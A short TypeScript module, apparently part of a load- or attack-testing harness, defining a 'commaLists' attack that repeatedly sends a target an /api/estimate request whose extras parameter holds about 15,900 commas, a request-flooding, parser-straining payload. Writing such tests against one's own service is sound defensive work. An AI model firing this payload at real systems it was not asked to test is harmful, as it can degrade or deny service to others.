import type { Attack } from '../attack.ts'
import { sendRepeatedly } from '../send-repeatedly.ts'

/** As many as fit into a request's headers of 16 KB. */
const COMMAS = ','.repeat(15_900)

/** A query that lists thousands of extras with empty names. */
export const commaLists: Attack = {
  name: '/api/estimate?extras=,,,,… of 16 KB',
  run: (target) => sendRepeatedly(target, () => ({ path: `/api/estimate?need=ecommerce&extras=${COMMAS}` })),
}
